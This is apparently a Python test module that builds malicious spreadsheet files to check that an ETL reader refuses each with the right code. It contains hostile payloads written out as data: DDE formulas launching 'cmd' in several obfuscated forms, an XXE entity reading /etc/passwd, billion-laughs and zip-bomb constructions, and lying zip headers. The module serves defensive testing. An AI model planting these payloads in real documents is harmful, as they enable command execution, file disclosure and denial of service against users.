"""Hazardous files, each with the code it must be refused with. Built anew by every test, never kept."""

import os
import re
import struct
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

from sumida_etl.reader.admission.rejection import Refusal
from tests.reader.foreign import OTHERS
from tests.reader.zipped import (
    BOOK,
    MAIN,
    OFFICE,
    RELATIONS,
    SHEET,
    TYPES,
    Parts,
    changed,
    parts_of,
    strict,
    with_rows,
    with_strings,
    zipped,
)

Build = Callable[[Path, Path], None]
"""Given a good workbook and where to put the hazard."""
HAZARDS: dict[str, tuple[Refusal, Build]] = {}
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
OLE = bytes.fromhex("d0cf11e0a1b11ae1")
LINKED = b'<row r="60"><c r="H60"><f>[1]Sheet1!$A$1*2</f><v>1</v></c></row>'
LINKED_BY_PATH = LINKED.replace(b"[1]Sheet1!$A$1", b"'C:\\[a.xlsx]2 \xe8\xaa\xb2'!A1")
DOCTYPE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def hazard(name: str, refusal: Refusal) -> Callable[[Build], Build]:
    def declare(build: Build) -> Build:
        HAZARDS[name] = (refusal, build)
        return build

    return declare


def from_parts(name: str, refusal: Refusal, make: Callable[[Parts], Parts], method: int = zipfile.ZIP_DEFLATED) -> None:
    HAZARDS[name] = (refusal, lambda good, path: (zipped(path, make(parts_of(good)), method), None)[1])


def from_bytes(name: str, refusal: Refusal, make: Callable[[bytes], bytes]) -> None:
    HAZARDS[name] = (refusal, lambda good, path: (path.write_bytes(make(good.read_bytes())), None)[1])


def each(row: bytes, numbers: Iterable[int]) -> bytes:
    return b"".join(row % (number, number) for number in numbers)


def many(element: bytes, count: int) -> bytes:
    return b'<x:many xmlns:x="x" xmlns:v="v" xmlns:xdr="d">%s</x:many>' % (b"<%s/>" % element * count)


def with_many(parts: Parts, name: str, element: bytes, count: int) -> Parts:
    return {**parts, name: many(element, count)}


def with_name(parts: Parts, name: bytes, formula: bytes) -> Parts:
    named = b'<definedNames><definedName name="%s">%s</definedName></definedNames>' % (name, formula)
    return changed(
        parts,
        BOOK,
        lambda xml: re.sub(rb"<definedNames>.*</definedNames>", b"", xml).replace(b"</sheets>", b"</sheets>" + named),
    )


def with_sheets(parts: Parts, count: int, part: str) -> Parts:
    """More sheets, all of one part."""
    listed = b"".join(b'<sheet name="x%d" sheetId="%d" r:id="more"/>' % (n, n + 99) for n in range(count))
    relation = b'<Relationship Id="more" Type="%s/worksheet" Target="/%s"/></Relationships>' % (OFFICE, part.encode())
    book = changed(parts, BOOK, lambda xml: xml.replace(b"</sheets>", listed + b"</sheets>"))
    return changed(book, RELATIONS, lambda xml: xml.replace(b"</Relationships>", relation))


from_bytes("empty.xlsx", Refusal.EMPTY, lambda good: b"")
from_bytes("text.xlsx", Refusal.OTHER_KIND, lambda good: "所属,値\n".encode())
from_bytes("text-of-old.xlsx", Refusal.OTHER_KIND, lambda good: "所属,値\n".encode("cp932") * 500)
from_bytes("bytes.xlsx", Refusal.NOT_A_WORKBOOK, lambda good: b"\x01\x02\xff" * 500)
from_bytes("program.xlsx", Refusal.OTHER_KIND, lambda good: b"MZ" + bytes(500))
from_bytes("truncated.xlsx", Refusal.TRUNCATED, lambda good: good[:9000])
from_bytes("tail-lost.xlsx", Refusal.TRUNCATED, lambda good: good[:-10])
from_bytes("flipped.xlsx", Refusal.TRUNCATED, lambda good: good[:3000] + bytes(200) + good[3200:])
from_bytes("noise.xlsx", Refusal.TRUNCATED, lambda good: b"PK\x03\x04" + os.urandom(15 << 20))
from_bytes("encrypted.xlsx", Refusal.ENCRYPTED, lambda good: OLE + "EncryptedPackage".encode("utf-16-le"))
from_bytes("old.xls", Refusal.OLD_FORMAT, lambda good: OLE + bytes(500))
from_bytes("old-renamed.xlsx", Refusal.OLD_FORMAT, lambda good: OLE + bytes(500))
from_bytes("new-named-old.xls", Refusal.EXTENSION, lambda good: good)
from_bytes("macros.xlsm", Refusal.MACROS, lambda good: good)
from_bytes("figures.csv", Refusal.EXTENSION, lambda good: good)
from_bytes("no-extension", Refusal.EXTENSION, lambda good: good)
from_bytes("portable.xlsx", Refusal.OTHER_KIND, lambda good: b"%PDF-1.7\n" + bytes(500))
from_bytes("photo.xlsx", Refusal.OTHER_KIND, lambda good: b"\x89PNG\r\n\x1a\n" + bytes(500))
from_bytes("web-page.xlsx", Refusal.OTHER_KIND, lambda good: b"\r\n<html><table></table></html>")
from_bytes("old-document.xlsx", Refusal.OTHER_KIND, lambda good: OLE + bytes(500) + "WordDocument".encode("utf-16-le"))
from_bytes("line\nbreak.xlsx", Refusal.NAME, lambda good: good)
from_bytes("turned\u202excod.xlsx", Refusal.NAME, lambda good: good)
from_bytes("large.xlsx", Refusal.TOO_LARGE, lambda good: good + bytes(17 << 20))
from_parts("no-book.xlsx", Refusal.NOT_A_WORKBOOK, lambda parts: {"a.txt": b""})
from_parts("document.xlsx", Refusal.OTHER_KIND, lambda parts: {TYPES: parts[TYPES], "word/document.xml": b"<w/>"})
from_parts("lzma.xlsx", Refusal.NOT_A_WORKBOOK, dict, zipfile.ZIP_LZMA)
from_parts("twins.xlsx", Refusal.NOT_A_WORKBOOK, lambda parts: {**parts, SHEET.upper(): parts[SHEET]})
from_parts("renamed-macros.xlsx", Refusal.MACROS, lambda parts: {**parts, "xl/vbaProject.bin": b""})
from_parts(
    "hidden-macros.xlsx",
    Refusal.MACROS,
    lambda parts: changed(parts, TYPES, lambda xml: xml.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")),
)
for _name, _formula in {
    "link-escaped": b"&#91;1]Sheet1!A1",
    "program": b"cmd|'/c calc'!A0",
    "program-in-quotes": b"'cmd'|'/c calc'!A0",
    "program-after-a-tab": b"'a&quot;b'!A1&amp;cmd|'/c calc'!A0&amp;&quot;",
    "program-behind-a-mark-alone": b"&quot;cmd|'/c calc'!A0",
    "program-after-a-column": b"Table1['#a]&amp;cmd|'/c calc'!A0",
    "program-escaped": b"Excel&#124;book!R1C1",
    "web": b'_xlfn.WEBSERVICE("https://example.com/"&amp;A1)',
    "server": b'RTD("a.b",,"c")',
}.items():
    from_parts(
        f"{_name}-in-a-formula.xlsx",
        Refusal.EXTERNAL_LINKS,
        lambda parts, formula=_formula: with_rows(parts, LINKED.replace(b"[1]Sheet1!$A$1*2", formula)),
    )
from_parts(
    "one-row-twice.xlsx",
    Refusal.NOT_A_WORKBOOK,
    lambda parts: with_rows(
        parts, b'<row r="60"><c r="H60"><v>1</v></c></row><row r="60"><c r="I60"><v>1</v></c></row>'
    ),
)
for _what, _name in (("styles", b"</styleSheet>"), ("strings", b"</sst>")):
    for _odd, _bytes in (("rubbish", b"<"), ("nul", b"\0")):
        from_parts(
            f"{_what}-with-{_odd}.xlsx",
            Refusal.NOT_A_WORKBOOK,
            lambda parts, end=_name, odd=_bytes: {name: xml.replace(end, end + odd) for name, xml in parts.items()},
        )
from_parts("links.xlsx", Refusal.EXTERNAL_LINKS, lambda parts: with_rows(parts, LINKED))
from_parts("link-by-path.xlsx", Refusal.EXTERNAL_LINKS, lambda parts: with_rows(parts, LINKED_BY_PATH))
from_parts(
    "link-by-name.xlsx",
    Refusal.EXTERNAL_LINKS,
    lambda parts: with_rows(
        with_name(parts, b"old", b"[1]Sheet1!$A$1"), LINKED.replace(b"[1]Sheet1!$A$1", b"SUM(Old)")
    ),
)
from_parts(
    "macros-by-relation.xlsx",
    Refusal.MACROS,
    lambda parts: {
        **changed(
            parts,
            RELATIONS,
            lambda xml: xml.replace(
                b"</Relationships>",
                b'<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                b'Target="other.dat"/></Relationships>',
            ),
        ),
        "xl/other.dat": OLE,
    },
)
from_parts("binary.xlsx", Refusal.BINARY, OTHERS["binary.xlsx"][2])
from_parts("one-part-many-sheets.xlsx", Refusal.MANY, lambda parts: with_sheets(parts, 4_000, SHEET))
from_parts("one-part-two-sheets.xlsx", Refusal.NOT_A_WORKBOOK, lambda parts: with_sheets(parts, 1, SHEET))
from_parts("many-comments.xlsx", Refusal.MANY, lambda parts: with_many(parts, "xl/comments1.xml", b"comment", 30_000))
from_parts(
    "many-comments-in-parts.xlsx",
    Refusal.MANY,
    lambda parts: {**parts, **{f"xl/c{n}.xml": many(b"x:comment", 300) for n in range(100)}},
)
from_parts("many-threads.xlsx", Refusal.MANY, lambda parts: with_many(parts, "xl/t.xml", b"threadedComment", 30_000))
from_parts("many-shapes.xlsx", Refusal.MANY, lambda parts: with_many(parts, "xl/drawings/d.xml", b"xdr:sp", 30_000))
from_parts("many-notes.xlsx", Refusal.MANY, lambda parts: with_many(parts, "xl/drawings/d.vml", b"v:shape", 30_000))
for _element in (b"dataValidation", b"cfRule", b"mergeCell", b"hyperlink", b"col"):
    from_parts(
        f"many-{_element.decode()}.xlsx",
        Refusal.MANY,
        lambda parts, element=_element: changed(
            parts, SHEET, lambda xml: xml.replace(b"</sheetData>", b"</sheetData>" + many(element, 100_000))
        ),
    )
for _element in (b"xf", b"font", b"fill", b"border", b"numFmt", b"cellStyle", b"dxf"):
    from_parts(
        f"many-{_element.decode()}.xlsx",
        Refusal.MANY,
        lambda parts, element=_element: with_many(parts, "xl/styles.xml", element, 100_000),
    )
from_parts(
    "many-names.xlsx",
    Refusal.MANY,
    lambda parts: changed(
        parts, BOOK, lambda xml: xml.replace(b"</workbook>", many(b"definedName", 100_000) + b"</workbook>")
    ),
)
from_parts(
    "merged-over-and-over.xlsx",
    Refusal.MANY,
    lambda parts: changed(
        with_rows(parts, FAR.replace(b"1048576", b"9999").replace(b"XFD", b"CZ")),
        SHEET,
        lambda xml: xml.replace(b"</sheetData>", b"</sheetData>" + b'<mergeCell ref="A1:CZ9999"/>' * 1_000),
    ),
)
from_parts(
    "one-large-part.xlsx",
    Refusal.TOO_LARGE,
    lambda parts: {**parts, "xl/pivotCache/records.xml": os.urandom(500_000).hex().encode() * 10},
)
from_parts("connections.xlsx", Refusal.EXTERNAL_LINKS, lambda parts: {**parts, "xl/connections.xml": b"<x/>"})
from_parts("many-parts.xlsx", Refusal.BOMB, lambda parts: {**parts, **{f"{n}.xml": b"" for n in range(600)}})
from_parts("very-many-parts.xlsx", Refusal.BOMB, lambda parts: {str(n): b"" for n in range(60_000)})
from_parts("bomb.xlsx", Refusal.BOMB, lambda parts: changed(parts, SHEET, lambda xml: xml + bytes(60_000_000)))
from_parts(
    "one-text-in-many-cells.xlsx",
    Refusal.BOMB,
    lambda parts: with_strings(
        with_rows(
            parts, b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(99, 9999))
        ),
        b'<sst xmlns="%s"><si><t>%s</t></si></sst>' % (MAIN, b"a" * 7_000_000),
    ),
)
from_parts("xxe.xlsx", Refusal.DECLARATION, lambda parts: changed(parts, SHEET, lambda xml: DOCTYPE + xml))
from_parts(
    "laughs.xlsx",
    Refusal.DECLARATION,
    lambda parts: changed(
        parts,
        BOOK,
        lambda xml: (
            b'<!DOCTYPE x [<!ENTITY a0 "lol">'
            + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
            + b"]>"
            + xml
        ),
    ),
)
from_parts(
    "utf-16.xlsx",
    Refusal.FAR_CELL,
    lambda parts: changed(parts, SHEET, lambda xml: xml.replace(b"</sheetData>", FAR).decode().encode("utf-16")),
)
from_parts(
    "utf-7.xlsx",
    Refusal.NOT_A_WORKBOOK,
    lambda parts: changed(parts, SHEET, lambda xml: b"<?xml version='1.0' encoding='UTF-7'?>" + xml),
)
from_parts(
    "million-blank-rows.xlsx",
    Refusal.OVERGROWN,
    lambda parts: with_rows(
        parts,
        b"".join(b'<row r="%d"><c r="A%d" s="3"/><c r="B%d" s="3"/></row>' % (n, n, n) for n in range(99, 1048577)),
    ),
)
from_parts(
    "many-blank-cells.xlsx",
    Refusal.OVERGROWN,
    lambda parts: with_rows(parts, b"".join(b'<row r="%d">%s</row>' % (n, b"<c/>" * 16_000) for n in range(99, 120))),
)
from_parts(
    "wide-sheets.xlsx",
    Refusal.SPRAWLING,
    lambda parts: {
        **parts,
        **{
            f"xl/worksheets/sheet{n}.xml": parts[SHEET].replace(
                b"</sheetData>", b'<row r="9999"><c r="CZ9999"><v>1</v></c></row></sheetData>'
            )
            for n in range(1, 6)
        },
    },
)

FAR_ROWS = {
    "plain": FAR,
    "single-quotes": FAR.replace(b'"', b"'"),
    "no-cell-address": b'<row r="1048576"><c><v>1</v></c></row>',
    "no-address": b"<row>" + b"<c/>" * 16_383 + b"<c><v>1</v></c></row>",
    "entity": b'<row r="1"><c r="&#88;FD1048576"><v>1</v></c></row>',
    "lower-case": FAR.replace(b"XFD", b"xfd"),
    "spaces": b'<row r="1"><c  s="1"\n r = "XFD1048576" ><v>1</v></c></row>',
    "comment": b"<!-- --><row r='1'><c r='XFD1048576'><v>1</v></c></row>",
    "not-in-its-row": b'<row r="50"><c r="XFD1048576" t="inlineStr"><is><t>a</t></is></c></row>',
    "formula": b'<row r="50"><c r="XFD1048576"><f>1+1</f></c></row>',
    "prefix": b'<x:row xmlns:x="%s" r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>' % MAIN,
}
for _name, _rows in FAR_ROWS.items():
    from_parts(f"far-{_name}.xlsx", Refusal.FAR_CELL, lambda parts, rows=_rows: with_rows(parts, rows))
from_parts("far-strict.xlsx", Refusal.FAR_CELL, lambda parts: strict(with_rows(parts, FAR)))
from_parts(
    "far-second-data.xlsx",
    Refusal.FAR_CELL,
    lambda parts: changed(
        parts,
        SHEET,
        lambda xml: xml.replace(b"<sheetData>", b'<x:sheetData xmlns:x="%s">%s</x:sheetData><sheetData>' % (MAIN, FAR)),
    ),
)
from_parts(
    "far-elsewhere.xlsx",
    Refusal.FAR_CELL,
    lambda parts: {
        **changed(parts, RELATIONS, lambda xml: xml.replace(b"/xl/worksheets/sheet2.xml", b"../odd/./Other.DAT.xml")),
        "odd/other.dat.xml": with_rows(parts, FAR)[SHEET],
    },
)


@hazard("lying-sizes.xlsx", Refusal.BOMB)
def lying(good: Path, path: Path) -> None:
    zipped(path, changed(parts_of(good), SHEET, lambda xml: xml + b" " * 60_000_000))
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo(SHEET).file_size
    path.write_bytes(path.read_bytes().replace(struct.pack("<L", size), struct.pack("<L", 5000)))


@hazard("link.xlsx", Refusal.SYMLINK)
def link(good: Path, path: Path) -> None:
    path.symlink_to(good)


@hazard("folder.xlsx", Refusal.NOT_A_WORKBOOK)
def folder(good: Path, path: Path) -> None:
    path.mkdir()


@hazard("pipe.xlsx", Refusal.NOT_A_WORKBOOK)
def pipe(good: Path, path: Path) -> None:
    os.mkfifo(path)


@hazard("gone.xlsx", Refusal.UNREADABLE)
def gone(good: Path, path: Path) -> None:
    """Nothing is there."""
